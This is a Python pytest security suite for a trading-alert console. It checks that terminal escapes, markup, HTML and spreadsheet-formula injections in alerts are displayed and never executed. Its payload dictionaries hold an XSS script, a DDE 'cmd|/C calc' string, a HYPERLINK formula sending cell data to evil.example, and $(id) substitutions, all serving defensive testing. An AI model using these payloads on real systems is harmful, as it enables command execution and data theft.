"""Security suite no. 17: escape sequences, markup, HTML and spreadsheet formulas in everything an alert can carry.

On the terminal they are shown and never obeyed; in JSON they arrive as they were sent. Nothing of ours writes CSV:
PostgREST gives it to a program that asks for it, cell for cell as stored.
"""

from __future__ import annotations

import json
import os
import pty
import subprocess
import unicodedata
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from local.console import events, session
from local.console.render import road_lines
from local.paths import PROJECT, VENV
from supabase import AsyncClient
from tests.security.senders import Sender, alert, make_sender
from tests.support.clusters import wait_until
from tests.support.stacks import RunningStack
from tests.support.trading import worker

ESCAPES = {
    "colour": "\x1b[31;1mred\x1b[0m",
    "clear": "\x1b[2J\x1b[1;1H\x1b[3J",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "one-byte": "\x9b31m\x9d0;owned\x9c",
    "overwrite": "denied\r\x08\x08\x08executed\x7f",
    "new lines": "a\nalert 1 executed\r\n\x0b\x0c\x85b\u2028c",
    "bidi": "\u202etxt.exe\u2066\u200f",
}
WORDS = {
    "markup": ":boom: [bold red]x[/] [link=https://evil.example]y[/link] [/nope]",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;",
    "formula": '=HYPERLINK("https://evil.example?"&A1)',
    "dde": "@SUM(1+9)*cmd|'/C calc'!A0",
    "sign": "-2+3+cmd|' /C calc'!A0",
    "templates": "${7*7} {{7*7}x} %s %n $(id) `id`",
}
HOSTILE = {**ESCAPES, **WORDS}
EVERYTHING = " ".join(HOSTILE.values())


@dataclass
class Console:
    """A person's terminal on a stack: his login is kept, and what is printed is kept apart by stream."""

    sender: Sender
    home: Path

    async def signed_in(self) -> AsyncClient:
        """The person at the terminal, as the console signs in."""
        return await session.sign_in(session.saved(self.home / "login.json"))

    def run(self, *words: str, stdin: bytes = b"") -> subprocess.CompletedProcess[bytes]:
        """The console script, its output not a terminal."""
        return subprocess.run(
            [VENV / "bin" / "empire", *words],
            env={**os.environ, "EMPIRE_HOME": str(self.home)},
            cwd=PROJECT,
            input=stdin,
            capture_output=True,
            check=False,
            timeout=60,
        )

    def on_a_terminal(self, *words: str) -> str:
        """What the console script prints on a terminal that knows colours."""
        ours, theirs = pty.openpty()
        environment = {
            **os.environ,
            "EMPIRE_HOME": str(self.home),
            "TERM": "xterm-256color",
            "COLUMNS": "200",
        }
        process = subprocess.Popen(
            [VENV / "bin" / "empire", *words],
            env=environment,
            cwd=PROJECT,
            stdin=theirs,
            stdout=theirs,
            stderr=theirs,
        )
        os.close(theirs)
        shown = b""
        try:
            while part := os.read(ours, 65536):
                shown += part
        except OSError:  # the other side is closed
            pass
        os.close(ours)
        process.wait(30)
        return shown.decode().replace("\r\n", "\n")


def obeyed(text: str) -> list[str]:
    """Every character of the text that a terminal would obey instead of showing it."""
    return [
        repr(each) for each in text if each != "\n" and unicodedata.category(each) in ("Cc", "Cf", "Zl", "Zp")
    ]


@pytest.fixture(scope="module")
def console(shared_stack: RunningStack, tmp_path_factory: pytest.TempPathFactory) -> Console:
    """A trader whose account, endpoint and alerts are named by somebody with bad intentions."""
    stack = shared_stack
    user = stack.create_user()
    sender = make_sender(stack, user, server=None)
    home = tmp_path_factory.mktemp("home")
    address = f"{stack.api_url}/functions/v1/webhook/paper/{sender.token}"
    login = session.Login(stack.api_url, stack.publishable_key, user.email, user.password, address)
    session.save(login, home / "login.json")
    label = (ESCAPES["colour"] + ESCAPES["new lines"] + WORDS["markup"])[:80]
    stack.database.sql(
        "update public.broker_accounts set label = $label$" + label + f"$label$ where user_id = '{user.id}'"
    )
    return Console(sender, home)


def intent(text: str, **more: Any) -> dict[str, Any]:
    """An intent with the text wherever text may stand."""
    return {
        "action": "open",
        "side": "buy",
        "symbol": "EURUSD",
        "qty_mode": "lots",
        "qty": 0.01,
        "ref_price": 1.1,
        "comment": EVERYTHING[:500],
        "meta": {"said": text, text: [text]},
        **more,
    }


def submitted(console: Console, text: str) -> list[int]:
    """Alerts through the webhook and intents through the API: what is accepted, by event."""
    accepted = []
    given = [
        intent(text, tag=text[:64]),
        intent(text, order_id=text[:64], tag=text[:64]),
        intent(text, symbol=text[:64]),
    ]
    for number, each in enumerate(given):
        body = json.dumps({"version": "unify.v1", "id": f"{number}{text}"[:128], "intent": each})
        answer = console.sender.post(body.encode())
        assert answer.status_code in (202, 409, 422), answer.text
        if answer.status_code == 202:
            accepted.append(answer.json()["event_id"])
        told = console.sender.call("submit_intent", intent=each)
        accepted.append(told["event_id"])
    return accepted


@pytest.fixture(scope="module")
def roads(console: Console) -> dict[str, list[int]]:
    """Every text on its way to the end of the road; the events of each."""
    stack = console.sender.stack
    with worker(stack.database):
        roads = {name: submitted(console, text) for name, text in HOSTILE.items()}
        asked = "select count(*) from public.deliveries where status not in ('done', 'dead')"
        wait_until(lambda: stack.database.sql(asked) == "0", 60)
    return roads


async def test_a_trace_shows_and_never_obeys(console: Console, roads: dict[str, list[int]]) -> None:
    """No line holds a control or direction character, and none is one that the alert made up."""
    client = await console.signed_in()
    for name, text in HOSTILE.items():
        for event in roads[name]:
            lines = road_lines(await events.read(client, event))
            assert obeyed("".join(lines)) == [], (name, lines)
            assert not [line for line in lines if "\n" in line or "\r" in line]
        if name in WORDS:
            assert text[:64] in "".join(lines), (name, lines)


async def test_the_api_holds_what_was_sent(console: Console, roads: dict[str, list[int]]) -> None:
    """Every character comes back: what is dangerous on a screen is still the trader's own data."""
    client = await console.signed_in()
    for name, text in HOSTILE.items():
        road = await events.read(client, roads[name][-2])
        held = road.event["payload"]["intent"]
        assert (held["tag"], held["comment"]) == (text[:64], EVERYTHING[:500])
        assert held["meta"] == {"said": text, text: [text]}


def test_the_console_prints_what_was_proved_above(console: Console, roads: dict[str, list[int]]) -> None:
    """`empire trace` on no terminal, and on one with colours: rich reads no markup, link or emoji out of an alert."""
    shown = console.run("trace", str(roads["colour"][-1]))
    assert (shown.returncode, shown.stderr, obeyed(shown.stdout.decode())) == (0, b"", [])
    assert "\\x1b[31;1mred" in shown.stdout.decode()
    printed = console.on_a_terminal("trace", str(roads["markup"][-1]))
    assert obeyed(printed) == [], printed
    assert WORDS["markup"][:64] in printed


def test_the_consoles_json_is_ascii_and_whole(console: Console, roads: dict[str, list[int]]) -> None:
    """`--json`: a terminal is safe there as well, and a program reads every character."""
    shown = console.run("trace", str(roads["one-byte"][-2]), "--json")
    assert shown.stdout.isascii()
    assert obeyed(shown.stdout.decode()) == []
    assert json.loads(shown.stdout)["event"]["payload"]["intent"]["tag"] == ESCAPES["one-byte"]


def test_a_refusal_is_shown_and_never_obeyed(console: Console, tmp_path: Path) -> None:
    """`empire send` of an alert that is refused: paths and words of the sender are data on standard error."""
    file = tmp_path / "alert.json"
    fields = {
        text: text for name, text in HOSTILE.items() if name != "templates"
    }  # {{ has an answer of its own
    file.write_text(json.dumps({"version": "unify.v1", "intent": fields}))
    shown = console.run("send", str(file))
    assert (shown.returncode, shown.stdout, obeyed(shown.stderr.decode())) == (2, b"", [])
    assert shown.stderr.decode().startswith("422 ")
    assert "<script>" in shown.stderr.decode()
    garbage = console.run("send", "-", stdin=EVERYTHING.encode())
    assert (garbage.returncode, obeyed(garbage.stderr.decode())) == (2, [])


def test_flatten_names_the_account_and_obeys_nothing(console: Console, roads: dict[str, list[int]]) -> None:
    """The account's label and the symbols of what is left open are data, on every line of the answer."""
    assert roads
    shown = console.run("flatten", "--all", "--wait-s", "0")
    printed = shown.stdout.decode()
    assert (shown.returncode, obeyed(printed)) == (3, [])
    assert len(printed.splitlines()) == 1
    assert "still trying" in printed
    unknown = console.run("flatten", EVERYTHING)
    assert obeyed(unknown.stdout.decode() + unknown.stderr.decode()) == []


def test_answers_are_json_that_no_browser_reads_as_a_page(console: Console) -> None:
    """What quotes a sender's words is application/json and says nosniff."""
    answers = [
        console.sender.post(alert(**{WORDS["html"]: WORDS["html"]})),
        console.sender.post(WORDS["html"].encode()),
        console.sender.post(alert(), WORDS["html"].replace("/", "")),
    ]
    for answer in answers:
        assert answer.headers["content-type"] == "application/json"
        assert answer.headers["x-content-type-options"] == "nosniff"
    assert [answer.status_code for answer in answers] == [422, 400, 401]
